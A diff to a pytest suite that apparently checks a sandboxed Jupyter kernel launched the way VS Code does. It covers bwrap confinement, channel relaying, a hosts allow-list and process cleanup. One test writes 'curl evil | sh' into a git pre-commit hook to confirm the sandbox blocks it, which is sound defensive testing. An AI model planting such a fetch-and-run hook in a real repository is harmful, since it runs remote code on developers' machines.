@@ -1,12 +1,15 @@
 """VS Code's raw launch, emulated: it runs kernel.json's argv itself with a connection file (no
 provisioner, no host), interrupts by SIGINT to the pid it launched, debugs over ``debug_request`` on
-control (Debug Cell, Run by Line), and stops the kernel with SIGTERM. Judged from outside: the
-process table, the cell's own count of the signals it received."""
+control (Debug Cell, Run by Line), and stops the kernel with SIGTERM. The kernel lives in the OS
+sandbox, its channels relayed to the ports VS Code chose. Judged from outside: the process table,
+files on disk, a loopback server's log, the cell's own count of the signals it received."""
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
+import shlex
 import signal
 import subprocess
 import sys
@@ -17,11 +20,12 @@ from typing import Any
 
 import psutil
 import pytest
-from conftest import gone, wait_until
+from conftest import FALLBACK_KERNEL, gone, wait_until
 from jupyter_client.blocking.client import BlockingKernelClient
 from jupyter_client.connect import write_connection_file
 from jupyter_client.kernelspec import KernelSpecManager
 from kernel_helpers import execute
+from sandbox_cases import counting_http, sh
 
 # A cell that counts the SIGINTs it receives over 3 s (its own handler replaces the interrupt).
 COUNT_SIGINTS = """
@@ -56,10 +60,17 @@ class RawKernel:
 
 @pytest.fixture
 def raw(workspace: Path, tmp_path: Path) -> Iterator[RawKernel]:
-    spec = KernelSpecManager().get_kernel_spec("ivralo")
+    with raw_launch(workspace, tmp_path) as kernel:
+        yield kernel
+
+
+@contextlib.contextmanager
+def raw_launch(workspace: Path, tmp_path: Path, kernel_name: str = "ivralo") -> Iterator[RawKernel]:
+    spec = KernelSpecManager().get_kernel_spec(kernel_name)
     connection_file, _ = write_connection_file(str(tmp_path / "kernel-v3-raw.json"))
     argv = [part.format(connection_file=connection_file) for part in spec.argv]
-    env = dict(os.environ, PYDEVD_IPYTHON_COMPATIBLE_DEBUGGING="1")  # what VS Code adds
+    # kernel.json's env, and what VS Code adds
+    env = dict(os.environ, **spec.env, PYDEVD_IPYTHON_COMPATIBLE_DEBUGGING="1")
     proc = subprocess.Popen(argv, cwd=workspace, env=env, stdin=subprocess.DEVNULL)
     client = BlockingKernelClient(connection_file=connection_file)
     client.load_connection_file()
@@ -68,7 +79,8 @@ def raw(workspace: Path, tmp_path: Path) -> Iterator[RawKernel]:
     try:
         client.wait_for_ready(timeout=60)
         yield RawKernel(proc, client)
-        tree = [p.pid for p in psutil.Process(proc.pid).children(recursive=True)]
+        if proc.poll() is None:  # a test may have ended it already
+            tree = [p.pid for p in psutil.Process(proc.pid).children(recursive=True)]
     finally:
         client.stop_channels()
         proc.send_signal(signal.SIGTERM)  # VS Code's dispose: SIGTERM, never SIGKILL
@@ -204,3 +216,79 @@ def test_a_shell_cannot_rewrite_a_complete_connection_file(raw: RawKernel, tmp_p
     code = f"import subprocess\nprint(subprocess.run(['sh', '-c', 'echo x >> {connection_file}']).returncode)"
     assert execute(raw.client, code).stdout != "0\n"
     assert connection_file.read_bytes() == before
+
+
+def tree_of(pid: int) -> list[list[str]]:
+    return [p.cmdline() for p in psutil.Process(pid).children(recursive=True)]
+
+
+def layers(raw: RawKernel) -> dict[str, Any]:
+    return dict(raw.client.kernel_info(reply=True, timeout=10)["content"]["ivralo"]["layers"])
+
+
+def test_the_raw_launch_runs_in_the_sandbox(workspace: Path, tmp_path: Path) -> None:
+    """The supervisor VS Code started builds the sandbox itself; a shell line cannot write git hooks."""
+    hooks = workspace / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    with raw_launch(workspace, tmp_path) as raw:
+        assert str(layers(raw)["sandbox"]).startswith("bwrap:")
+        assert any(Path(cmd[0]).name == "bwrap" for cmd in tree_of(raw.proc.pid) if cmd)
+        said = sh(raw.client, f"echo 'curl evil | sh' > {shlex.quote(str(hooks / 'pre-commit'))}; echo $?")
+        assert "Read-only file system" in said, said
+    assert not (hooks / "pre-commit").exists()
+
+
+def test_all_five_channels_cross_the_relay(raw: RawKernel) -> None:
+    """shell and IOPub (a cell and its output), stdin (input(): ipykernel routes the request by the
+    shell message's identities), control (kernel_info there), heartbeat."""
+    msg_id = raw.client.execute("name = input('name? ')\nprint('hello', name)", allow_stdin=True)
+    request = raw.client.get_stdin_msg(timeout=30)
+    assert request["content"]["prompt"] == "name? "
+    assert request["parent_header"]["msg_id"] == msg_id
+    raw.client.input("ada")
+    text = ""
+    while "hello" not in text:
+        msg = raw.client.get_iopub_msg(timeout=30)
+        if msg["parent_header"].get("msg_id") == msg_id and msg["msg_type"] == "stream":
+            text += msg["content"]["text"]
+    assert text == "hello ada\n"
+    assert raw.client.get_shell_msg(timeout=30)["content"]["status"] == "ok"
+    on_control = raw.client.session.msg("kernel_info_request")
+    raw.client.control_channel.send(on_control)
+    reply = raw.client.get_control_msg(timeout=30)
+    assert reply["parent_header"]["msg_id"] == on_control["header"]["msg_id"]
+    assert reply["content"]["status"] == "ok"
+    wait_until(raw.client.hb_channel.is_beating, 10, "the heartbeat through the relay")
+
+
+def test_the_allow_list_alone_decides_in_a_raw_launch(workspace: Path, tmp_path: Path) -> None:
+    """Nobody can be asked (no host has a prompt here): refused until the person adds the host to
+    hosts.allow, then reached at once, without a restart. Judged by the server's log."""
+    with counting_http() as (port, hits), raw_launch(workspace, tmp_path) as raw:
+        url = f"http://127.0.0.1:{port}/raw"
+        said = sh(raw.client, f"curl -sS -o /dev/null -w '%{{http_code}}' {url}")
+        assert said.startswith("403"), said
+        assert hits == []
+        (workspace / ".ivralo" / "permissions.json").write_text(json.dumps({"hosts": {"allow": [f"127.0.0.1:{port}"]}}))
+        said = sh(raw.client, f"curl -sS -o /dev/null -w '%{{http_code}}' {url}")
+        assert said.startswith("200"), said
+        assert hits == ["/raw"]
+
+
+def test_a_killed_raw_launch_leaves_nothing(workspace: Path, tmp_path: Path) -> None:
+    """VS Code gone at once (SIGKILL of the pid it started): the sandbox ends with everything in it."""
+    with raw_launch(workspace, tmp_path) as raw:
+        execute(raw.client, "import subprocess\nsubprocess.Popen(['setsid', 'sleep', '300'])")
+        tree = [p.pid for p in psutil.Process(raw.proc.pid).children(recursive=True)]
+        assert len(tree) >= 4  # bwrap, the supervisor, the kernel, the setsid child
+        raw.proc.kill()
+        raw.proc.wait(timeout=10)
+        for pid in tree:
+            wait_until(lambda pid=pid: gone(pid), 5, f"process {pid} of the sandbox to end")
+
+
+def test_a_kernelspec_can_turn_the_sandbox_off(workspace: Path, tmp_path: Path) -> None:
+    """``ivralo-kernel install --sandbox off`` reaches raw launches too (through kernel.json's env)."""
+    with raw_launch(workspace, tmp_path, kernel_name=FALLBACK_KERNEL) as raw:
+        assert layers(raw)["sandbox"] == "none (turned off by the kernelspec (sandbox='off'))"
+        assert not any(Path(cmd[0]).name == "bwrap" for cmd in tree_of(raw.proc.pid) if cmd)
